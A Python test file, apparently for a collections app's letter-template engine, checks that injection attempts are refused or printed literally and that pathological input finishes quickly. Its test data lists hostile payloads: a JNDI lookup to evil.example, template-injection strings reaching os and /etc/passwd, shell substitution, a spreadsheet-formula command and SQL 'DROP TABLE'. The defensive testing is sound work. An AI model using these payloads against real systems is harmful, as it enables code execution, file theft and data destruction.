"""Words of a letter that were written to do harm: refused, or printed sign by sign."""

from __future__ import annotations

from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from collector_desktop.domain.errors import RefusedError
from collector_desktop.domain.letter_templates import FIELDS, TEXT_FIELDS
from collector_desktop.domain.templates import Template, as_text, check_template, merge

VALUES = dict.fromkeys(FIELDS, "told") | {"total": "£12.00", "customer_name": "Acme"}
REFUSED = (
    *("{customer.name}", "{customer_name.__class__}", "{customer_name[0]}", "{customer_name!r}"),
    *("{customer_name:>900000000}", "{0}", "{}", "{ }", "{!r}", "{:d}", "{self}", "{total=}"),
    *("{0.__class__.__mro__}", "{__globals__}", "{__import__('os')}", "{{customer_name.__init__}}"),
    *("{{7*7}}", "{{ c.delete() }}", "{{'x'*2e8}}", "{{'%900000000s'|format(1)}}", "{{config}}"),
    *("{% for x in y %}", "{%include '/etc/passwd'%}", "{# a #}", "{{''.__class__.__mro__[1]}}"),
    *("${jndi:ldap://evil.example/a}", "${7*7}", "#{7*7}", "*{7*7}", "@{7*7}", "~{x}"),
    *("{Total}", "{total }", "{ total}", "{total\u200b}", "{\uff54otal}", "{total\x00}", "{ITEMS}"),
    *("{total|safe}", "{total}{evil}", "[[{evil}]]", "**{evil}**", "{lambda: 0}", "{'a': 1}"),
    *("{{#if total}}x{{/if}}", "{customer_name}{{{evil}}}", "[[{total} {evil}]]", "{items.0}"),
)
PRINTED = (
    *("%s %n %(total)s", "%900000000s", "$total", "<script>alert(1)</script>", "<b>total</b>"),
    *("<?php echo 1 ?>", "<%= 7*7 %>", "<!--#exec cmd=x-->", "@(7*7)", "`id` $(id)", "#set($x=1)"),
    *("{total", "total}", "}total{", "\\{total", "&#123;total&#125;", "%7Btotal%7D", "[[", "]]"),
    *("=cmd|' /C calc'!A0", "'; DROP TABLE customer; --", "file:///etc/passwd", "&lt;b&gt;"),
    *("<img src='file:///etc/canary.png'>", "\\u007btotal\\u007d", "{" + "x" * 81 + "}"),
)
OTHERWISE = (
    ("{{total}}", "{£12.00}"),
    ("{{{total}}}", "{{£12.00}}"),
    ("${total}", "$£12.00"),
    ("\\{total}", "\\£12.00"),
    ("[[[[total]]]]", "[[total]]"),
    ("**[[{customer_name}]]", "Acme"),
)
ENDLESS = ("{" * 20_000, "[[" * 10_000, "**" * 10_000, "[[{total}" * 2_000, "{total" * 3_000)


def written(body):
    """Return a letter of these words, as text."""
    return as_text(merge(Template("s", body), VALUES).parts)


def test_there_are_enough_of_them_and_none_twice():
    every = (*REFUSED, *PRINTED, *(body for body, _ in OTHERWISE))
    assert len(every) == len(set(every)) >= 60


@pytest.mark.parametrize("body", REFUSED, ids=ascii)
def test_what_is_no_field_is_refused_by_name_before_anything_is_written(body):
    for template in (Template("s", body), Template(body, "x")):
        with pytest.raises(RefusedError, match="There is no field"):
            check_template(template, FIELDS)
        with pytest.raises(RefusedError, match="There is no field"):
            merge(template, VALUES)


@pytest.mark.parametrize("body", PRINTED, ids=ascii)
def test_what_only_looks_like_one_is_printed_sign_by_sign(body):
    check_template(Template("s", body), FIELDS)
    assert written(body) == body


@pytest.mark.parametrize(("body", "expected"), OTHERWISE)
def test_a_field_in_odd_company_is_filled_in_once(body, expected):
    assert written(body) == expected


@pytest.mark.parametrize("body", ENDLESS, ids=["braces", "brackets", "stars", "words", "halves"])
def test_endless_signs_take_no_time(body):
    began = process_time()
    try:
        written(body)
    except RefusedError as refused:
        assert refused.advice  # noqa: PT017 - refused or written, at once
    assert process_time() - began < 1.0


PIECES = st.one_of(
    st.sampled_from([f"{{{name}}}" for name in TEXT_FIELDS]),
    st.text(alphabet="abc <>%$&'=", min_size=1, max_size=8),
)
WORDS = [*(f"{{{name}}}" for name in FIELDS), "[[", "]]", "**", "{{", "}}", "%s", "{evil}", "a b"]


@given(st.lists(PIECES, min_size=1, max_size=12), st.lists(st.sampled_from(WORDS), min_size=1))
def test_what_a_value_holds_is_never_read_again(pieces, words):
    """Against putting the values in piece by piece, without looking for fields at all."""
    value = " ".join(words)[:200].strip()
    body = "x" + "".join(pieces) + "x"
    merged = as_text(merge(Template("s", body), dict.fromkeys(FIELDS, value)).parts)
    assert merged == "x" + "".join(value if p[0] == "{" else p for p in pieces) + "x"
